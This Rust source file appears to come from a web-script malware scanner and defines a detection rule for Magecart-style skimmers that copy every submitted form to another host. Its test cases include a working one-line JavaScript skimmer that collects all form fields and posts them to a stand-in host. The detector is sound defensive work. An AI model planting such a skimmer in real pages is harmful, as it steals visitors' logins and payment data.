//! `every-form-copied`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "every-form-copied",
    description: "The script reads every form of this page on submission and sends it to another host.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::AnyForm]), one(&[Atom::FieldSentAbroad])],
    within: 900,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "document.addEventListener('submit',e=>{const d={};new FormData(e.target).forEach((v,k)=>{d[k]=v});fetch('http://c.example',{method:'POST',body:JSON.stringify(d)})})",
        ],
        without: &[
            "document.addEventListener('submit',e=>{const f=e.target;fetch(f.action,{method:'POST',body:new FormData(f)})})",
            "f.addEventListener('submit',()=>fetch('https://c.example/subscribe',{body:new FormData(f)}))",
        ],
    },
};
